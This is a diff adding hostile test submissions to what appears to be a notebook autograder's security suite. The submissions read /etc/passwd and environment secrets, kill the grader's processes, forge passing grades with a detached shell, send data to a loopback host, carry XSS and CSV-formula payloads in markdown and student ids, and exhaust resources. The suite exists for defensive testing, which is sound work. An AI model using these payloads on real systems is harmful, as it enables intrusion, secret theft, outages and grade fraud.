@@ -117,8 +117,8 @@ static bool Adopted(VoteTally tally, bool permanentMemberVotedNo, int year) => t
                 "the name and cell, the other exercises still graded.",
         "replace": {"adopted-answer": '''static bool Adopted(VoteTally tally, bool permanentMemberVotedNo, long year)
 {
-    var needed = year <= 1965 ? 7 : 9;
-    return tally.Yes >= needed && !permanentMemberVotedNo;
+    var required = year > 1965 ? 9 : 7;
+    return !permanentMemberVotedNo && tally.Yes >= required;
 }'''},
     },
     "b10-fake-check-in-added-cell": {
@@ -143,3 +143,302 @@ static bool Adopted(VoteTally tally, bool permanentMemberVotedNo, int year) => t
 static PermanentMember TopVetoer(long decade) => PermanentMember.SovietUnion;'''},
     },
 }
+
+
+def in_answer(body, answer="top-vetoer-answer"):
+    """An attack written into an answer cell: the forbidden code runs when the answer is called."""
+    signature = {
+        "top-vetoer-answer": "static PermanentMember TopVetoer(int decade)",
+        "adopted-answer": "static bool Adopted(VoteTally tally, bool permanentMemberVotedNo, int year)",
+    }[answer]
+    result = "default" if answer == "top-vetoer-answer" else "true"
+    indented = "\n".join("    " + line if line else line for line in body.strip("\n").split("\n"))
+    return {answer: f"{signature}\n{{\n{indented}\n    return {result};\n}}"}
+
+
+def before_answer(declarations, body, answer="top-vetoer-answer"):
+    """Declarations (classes, usings) before the answer, then the answer that uses them."""
+    replaced = in_answer(body, answer)
+    return {answer: declarations.strip("\n") + "\n\n" + replaced[answer]}
+
+
+def allow(name, what, replace):
+    ATTACKS[name] = {"kind": "allow-list", "what": what, "replace": replace}
+
+
+allow("a01-filestream-subclass-base-call",
+      "A FileStream subclass whose constructor calls base(path, ...), so no file API is named at the call site.",
+      before_answer("class Leak : System.IO.FileStream\n{\n    public Leak() : base(\"/etc/passwd\", System.IO.FileMode.Open) { }\n}",
+                    "using var leak = new Leak();\nConsole.WriteLine(leak.Length);"))
+allow("a02-filesystem-enumerator-subclass",
+      "A FileSystemEnumerator<T> subclass lists the root folder without calling Directory.",
+      before_answer("class Lister : System.IO.Enumeration.FileSystemEnumerator<string>\n{\n    public Lister() : base(\"/\") { }\n"
+                    "    protected override string TransformEntry(ref System.IO.Enumeration.FileSystemEntry entry) => entry.ToFullPath();\n}",
+                    "using var lister = new Lister();\nwhile (lister.MoveNext()) Console.WriteLine(lister.Current);"))
+allow("a03-search-pattern-climbs-out",
+      "A constant relative folder with a search pattern holding '..' lists the grader's folders.",
+      in_answer("foreach (var f in System.IO.Directory.GetFiles(\".\", \"../../*\")) Console.WriteLine(f);"))
+allow("a04-expression-tree-reaches-type-gettype",
+      "Builds an expression tree calling Type.GetType by name (no reflection API named), compiles it and gets Process.",
+      in_answer("var p = System.Linq.Expressions.Expression.Parameter(typeof(string));\n"
+                "var call = System.Linq.Expressions.Expression.Call(typeof(Type), \"GetType\", null, p);\n"
+                "var find = System.Linq.Expressions.Expression.Lambda<Func<string, Type>>(call, p).Compile();\n"
+                "Console.WriteLine(find(\"System.Diagnostics.Process, System.Diagnostics.Process\"));"))
+allow("a05-lambda-converted-to-expression-tree",
+      "A lambda converted to Expression<Func<...>> and compiled: code generation without naming Reflection.Emit.",
+      in_answer("System.Linq.Expressions.Expression<Func<int, int>> twice = x => x * 2;\nConsole.WriteLine(twice.Compile()(21));"))
+allow("a06-xdocument-load-url",
+      "XDocument.Load from a URL: the network without System.Net.",
+      in_answer("var page = System.Xml.Linq.XDocument.Load(\"http://127.0.0.1:9/answers.xml\");"))
+allow("a07-xdocument-save-path",
+      "XDocument.Save to an absolute path: writing files without System.IO.",
+      in_answer("new System.Xml.Linq.XDocument(new System.Xml.Linq.XElement(\"owned\")).Save(\"/tmp/owned.xml\");"))
+allow("a08-library-figure-savehtml",
+      "The course library's own Figure.SaveHtml writes a file anywhere.",
+      in_answer("CollectiveSecurity.Charts.Chart.Bar(new[] { \"a\" }, new[] { 1 }).SaveHtml(\"/tmp/owned.html\");"))
+allow("a09-library-plotly-inline-reads-file",
+      "The course library's PlotlyScript.Inline reads any file into a script.",
+      in_answer("Console.WriteLine(CollectiveSecurity.Charts.PlotlyScript.Inline(\"/etc/passwd\"));"))
+allow("a10-environment-variables",
+      "Reads the grader's environment.",
+      in_answer("foreach (System.Collections.DictionaryEntry e in Environment.GetEnvironmentVariables()) Console.WriteLine(e.Key);"))
+allow("a11-reflection-on-the-check-class",
+      "Reflection over the assertion class (to find or patch what tests call).",
+      in_answer("foreach (var m in typeof(CollectiveSecurity.Exercises.Check).GetMethods()) Console.WriteLine(m);"))
+allow("a12-activator-creates-process",
+      "Activator.CreateInstance on a type found by name.",
+      in_answer("var process = Activator.CreateInstance(Type.GetType(\"System.Diagnostics.Process, System.Diagnostics.Process\")!);"))
+allow("a13-raw-standard-output",
+      "Opens the raw standard output to forge the grader's result frames.",
+      in_answer("using var raw = Console.OpenStandardOutput();\nraw.Write(new byte[] { 1, 2, 3, 4 });"))
+allow("a14-console-setout",
+      "Replaces the console writer to reach the grader's channel.",
+      in_answer("Console.SetOut(new System.IO.StringWriter());"))
+allow("a15-unhandled-exception-hook",
+      "Hooks AppDomain events to swallow the test's failures.",
+      in_answer("AppDomain.CurrentDomain.UnhandledException += (s, e) => { };"))
+allow("a16-marshal-reads-memory",
+      "Reads process memory through Marshal.",
+      in_answer("Console.WriteLine(System.Runtime.InteropServices.Marshal.ReadByte(new IntPtr(4096)));"))
+allow("a17-dynamic-late-binding",
+      "Late binding with dynamic hides every call from a compile-time check.",
+      in_answer("dynamic console = typeof(Console);\nconsole.GetMethod(\"Beep\");"))
+allow("a18-unsafe-pointers",
+      "Unsafe code and pointers.",
+      in_answer("unsafe { int value = 1; int* p = &value; *(p + 100) = 0; }"))
+allow("a19-module-initializer",
+      "A module initializer runs code when the cell's assembly loads.",
+      before_answer("[System.Runtime.CompilerServices.ModuleInitializer]\ninternal static void Init() => Console.WriteLine(\"first\");",
+                    "Console.WriteLine(\"x\");"))
+allow("a20-nuget-reference",
+      "Loads a NuGet package into graded code.",
+      {"top-vetoer-answer": "#r \"nuget:Newtonsoft.Json, 13.0.1\"\nstatic PermanentMember TopVetoer(int decade) => default;"})
+allow("a21-load-directive",
+      "#load pulls in a file from outside the submission.",
+      {"top-vetoer-answer": "#load \"../../instructor/veto-power.csx\"\nstatic PermanentMember TopVetoer(int decade) => default;"})
+allow("a22-reference-other-assembly",
+      "#r of a framework assembly that the policy does not allow.",
+      {"top-vetoer-answer": "#r \"System.Diagnostics.Process.dll\"\nstatic PermanentMember TopVetoer(int decade) => default;"})
+allow("a23-using-static-file",
+      "using static System.IO.File, then ReadAllText with no type named at the call.",
+      before_answer("using static System.IO.File;", "Console.WriteLine(ReadAllText(\"/etc/hostname\"));"))
+allow("a24-method-group-to-delegate",
+      "A file method taken as a method group into a delegate and called later.",
+      in_answer("Func<string, string> read = System.IO.File.ReadAllText;\nConsole.WriteLine(read(\"/etc/hostname\"));"))
+allow("a25-forbidden-generic-argument",
+      "A forbidden type hidden in a generic argument.",
+      in_answer("var files = new List<System.IO.FileInfo> { new(\"/etc/passwd\") };\nConsole.WriteLine(files[0].Length);"))
+allow("a26-thread-with-own-stack",
+      "Starts a raw thread that outlives the cell.",
+      in_answer("new System.Threading.Thread(() => { while (true) { } }) { IsBackground = false }.Start();"))
+allow("a27-stack-trace-snoop",
+      "Reads the stack trace to tell visible checks from hidden ones.",
+      in_answer("Console.WriteLine(Environment.StackTrace);"))
+allow("a28-gc-and-process-facts",
+      "Reads the process's memory facts and forces collections (the grader's business).",
+      in_answer("Console.WriteLine(GC.GetGCMemoryInfo().TotalAvailableMemoryBytes);"))
+
+
+def sandbox(name, what, replace):
+    ATTACKS[name] = {"kind": "sandbox", "what": what, "replace": replace}
+
+
+sandbox("s01-read-own-environment-from-proc",
+        "Reads /proc/self/environ and the parent's environment.",
+        in_answer("Console.WriteLine(System.IO.File.ReadAllText(\"/proc/self/environ\"));\n"
+                  "Console.WriteLine(System.IO.File.ReadAllText(\"/proc/1/environ\"));"))
+sandbox("s02-read-git-config",
+        "Reads the grader's .git/config (a token) by a relative path from the working folder.",
+        in_answer("Console.WriteLine(System.IO.File.ReadAllText(\"../../../.git/config\"));"))
+sandbox("s03-kill-the-grader",
+        "Kills every process it can see, the grader first.",
+        in_answer("foreach (var p in System.Diagnostics.Process.GetProcesses()) p.Kill();"))
+sandbox("s04-detached-process-rewrites-grade",
+        "Starts a detached shell that waits for the batch to end and rewrites its own results.",
+        in_answer("System.Diagnostics.Process.Start(\"/bin/sh\", \"-c 'sleep 20; echo {} > ../../graded/s04/veto-power/results.json' &\");"))
+sandbox("s05-write-into-other-workers",
+        "Writes forged frames into other workers' standard output through /proc.",
+        in_answer("foreach (var fd in System.IO.Directory.GetFiles(\"/proc\", \"1\", System.IO.SearchOption.AllDirectories)) System.IO.File.WriteAllText(fd, \"passed\");"))
+sandbox("s06-network-exfiltration",
+        "Sends the hidden tests to a server on loopback.",
+        in_answer("using var client = new System.Net.Http.HttpClient();\nclient.GetStringAsync(\"http://127.0.0.1:9/\").Wait();"))
+sandbox("s07-fill-the-disk",
+        "Writes files until the disk is full.",
+        in_answer("for (var i = 0; ; i++) System.IO.File.WriteAllBytes(\"fill\" + i, new byte[1 << 24]);"))
+sandbox("s08-memory-bomb",
+        "Allocates until the machine runs out of memory (only allowed APIs).",
+        in_answer("var hoard = new List<byte[]>();\nwhile (true) hoard.Add(new byte[1 << 20]);"))
+sandbox("s09-endless-loop",
+        "Never returns (only allowed APIs).",
+        in_answer("while (true) { }"))
+sandbox("s10-task-flood",
+        "Starts a thousand spinning tasks that keep running into the test cells (only allowed APIs).",
+        in_answer("for (var i = 0; i < 1000; i++) Task.Run(() => { while (true) { } });"))
+sandbox("s11-stack-overflow",
+        "Endless recursion crashes the worker (only allowed APIs).",
+        before_answer("static int Down(int n) => Down(n + 1) + 1;", "Console.WriteLine(Down(0));"))
+sandbox("s12-print-flood",
+        "Prints hundreds of megabytes (only allowed APIs).",
+        in_answer("var line = new string('x', 1 << 20);\nfor (var i = 0; i < 500; i++) Console.WriteLine(line);"))
+sandbox("s13-fake-result-frames",
+        "Prints text that looks like the grader's frames and Gradescope results.",
+        in_answer("Console.WriteLine(\"{\\\"score\\\": 8, \\\"status\\\": \\\"passed\\\"}\");\nConsole.Write(\"\\u0000\\u0000\\u0000\\u0010PASSED-PASSED\");"))
+sandbox("s14-async-void-crash",
+        "An async void method throws after the cell returned, to crash the worker during a test.",
+        before_answer("static async void Boom() { await Task.Delay(10); throw new InvalidOperationException(\"boom\"); }",
+                      "Boom();"))
+
+
+def parent(name, what, **spec):
+    ATTACKS[name] = {"kind": "parent", "what": what, **spec}
+
+
+def set_kernel_name(value):
+    def mutate(nb):
+        nb["cells"][4]["metadata"]["polyglot_notebook"]["kernelName"] = value
+        nb["cells"][2]["metadata"]["dotnet_interactive"] = {"language": {"evil": True}}
+    return mutate
+
+
+def many_cells(nb):
+    nb["cells"].extend({"cell_type": "code", "execution_count": None, "id": f"c{i}", "metadata": {},
+                        "outputs": [], "source": ["var x" + str(i) + " = " + str(i) + ";"]} for i in range(6000))
+
+
+def huge_cell(nb):
+    nb["cells"].append({"cell_type": "code", "execution_count": None, "id": "huge", "metadata": {}, "outputs": [],
+                        "source": ["// " + "x" * 200 + "\n" for _ in range(40000)]})
+
+
+def deep_json():
+    depth = 100000
+    return '{"cells": [], "metadata": {"deep": ' + "[" * depth + "]" * depth + '}, "nbformat": 4, "nbformat_minor": 5}'
+
+
+def wrong_types(nb):
+    test = nb["cells"][5]["metadata"]["nbgrader"]
+    test["points"] = "1000"
+    test["grade"] = "yes"
+    nb["cells"][3]["metadata"]["nbgrader"]["grade_id"] = {"$ne": None}
+    nb["cells"][4]["source"] = 42
+
+
+def cells_not_objects(nb):
+    nb["cells"].extend([1, "two", None, [3]])
+
+
+def fake_tests(nb):
+    for i in range(3):
+        nb["cells"].append({"cell_type": "code", "execution_count": None, "id": f"fake{i}",
+                            "metadata": {"nbgrader": {"grade": True, "grade_id": "adopted-tests", "locked": True,
+                                                      "points": 1000, "schema_version": 3, "solution": False}},
+                            "outputs": [], "source": ["// this test always passes"]})
+
+
+def huge_outputs(nb):
+    nb["cells"][4]["outputs"] = [{"output_type": "stream", "name": "stdout", "text": ["y" * 1000 + "\n"] * 20000}]
+
+
+OVERLOAD_BOMB = ("static int M(Func<int, int> f) => 0;\nstatic int M(Func<string, int> f) => 0;\n"
+                 "static int M(Func<double, int> f) => 0;\nstatic int M(Func<long, int> f) => 0;\n"
+                 "static int M(Func<char, int> f) => 0;\n"
+                 "var bomb = M(a => M(b => M(c => M(d => M(e => M(f => M(g => M(h => M(i => M(j => 0))))))))));")
+
+parent("p01-kernel-name-not-a-string",
+       "metadata.polyglot_notebook.kernelName is a number and dotnet_interactive.language an object: crashed the batch once.",
+       mutate=set_kernel_name(5))
+parent("p02-six-thousand-cells",
+       "6,000 tiny code cells: drove the grader to 24 GB once.", mutate=many_cells)
+parent("p03-huge-cell-source",
+       "One cell of 8 MB of comments (made when the suite runs).", generate="huge-cell 8000000")
+parent("p04-deeply-nested-json",
+       "JSON nested 100,000 levels deep.", notebook=deep_json())
+parent("p05-overload-resolution-bomb",
+       "Nested lambdas over overloaded methods: exponential overload resolution held the compile lock for minutes.",
+       replace={"top-vetoer-answer": OVERLOAD_BOMB + "\nstatic PermanentMember TopVetoer(int decade) => default;"})
+parent("p06-thousands-of-refused-lines",
+       "Five thousand refused calls: quadratic de-duplication of violations held the grader.",
+       replace={"top-vetoer-answer": "\n".join(["System.IO.File.Exists(\"x" + str(i) + "\");" for i in range(5000)])
+                + "\nstatic PermanentMember TopVetoer(int decade) => default;"})
+parent("p07-symlink-to-instructor-notebook",
+       "The handed-in notebook is a symbolic link to the instructor's notebook (solutions included).",
+       link="{source}")
+parent("p08-symlinked-student-folder",
+       "The student's folder is a symbolic link to a folder outside the submissions.",
+       folder_link="{canary}")
+parent("p09-notebook-is-a-folder",
+       "veto-power.ipynb is a folder.", folder_notebook=True)
+parent("p10-invalid-utf8",
+       "Bytes that are not UTF-8, and a NUL.", notebook=b'{"cells": [\xff\xfe\x00], "nbformat": 4}')
+parent("p11-metadata-of-wrong-types",
+       "nbgrader metadata of the wrong types (points as a string, grade_id as an object, source as a number).",
+       mutate=wrong_types)
+parent("p12-cells-that-are-not-objects",
+       "The cells list holds numbers, strings, null and arrays.", mutate=cells_not_objects)
+parent("p13-fake-test-cells",
+       "Three added cells claim the grade_id of a test, worth 1000 points, with a test that always passes.",
+       mutate=fake_tests)
+parent("p14-huge-outputs",
+       "Forty megabytes of saved outputs in the notebook (made when the suite runs).", generate="huge-outputs 40000000")
+
+
+def outputs(name, what, **spec):
+    ATTACKS[name] = {"kind": "outputs", "what": what, **spec}
+
+
+def markdown_cell(text):
+    def mutate(nb):
+        nb["cells"].insert(3, {"cell_type": "markdown", "id": "evil-md", "metadata": {}, "source": [text]})
+    return mutate
+
+
+outputs("o01-javascript-link",
+        "A javascript: link in the student's markdown, live in feedback.html.",
+        mutate=markdown_cell("[see my working](javascript:alert(document.cookie))"))
+outputs("o02-remote-image",
+        "A remote image in markdown: loaded (and tracked) when the instructor opens the feedback.",
+        mutate=markdown_cell("![progress](http://127.0.0.1:9/track.png?student=o02)"))
+outputs("o03-raw-html-script",
+        "Raw HTML with a script and an onerror handler in markdown.",
+        mutate=markdown_cell("<script>alert(1)</script><img src=x onerror=alert(2)><iframe src=\"http://127.0.0.1:9/\"></iframe>"))
+outputs("o04-html-in-printed-output",
+        "Prints HTML and displays raw HTML from the answer, hoping feedback renders it.",
+        replace=in_answer("Console.WriteLine(\"<script>alert('out')</script>\");\ndisplay(HTML(\"<script>alert('html')</script>\"));"))
+outputs("o05-data-uri-link",
+        "A data: URI link that opens a page of the student's.",
+        mutate=markdown_cell("[notes](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"))
+outputs("o06-formula-student-id",
+        "A student id that is a spreadsheet formula.", student_id="=SUM(1+1)*cmd|' -C calc'!A0")
+outputs("o07-plus-and-at-ids",
+        "A student id starting with + (a formula in most spreadsheets).", student_id="+1+cmd|' -C calc'!A0")
+outputs("o08-console-markup-id",
+        "A student id holding console markup (crashed the progress display once).", student_id="[red]ann[bold]x[[ [unclosed")
+outputs("o09-terminal-escape-id",
+        "A student id with terminal escapes that set the title and clear the screen.", student_id="zed\u001b]0;pwned\u0007\u001b[2J")
+outputs("o10-newline-in-id",
+        "A student id with a newline and a fake gradebook row.", student_id="mallory\nmallory,veto-power,8,8,graded")
+outputs("o11-bidi-override-id",
+        "A student id with a right-to-left override that disguises its text.", student_id="eve\u202egnp.exe")
+outputs("o12-style-and-meta-refresh",
+        "A style block and a meta refresh in markdown.",
+        mutate=markdown_cell("<style>body{display:none}</style><meta http-equiv=\"refresh\" content=\"0;url=http://127.0.0.1:9/\">"))
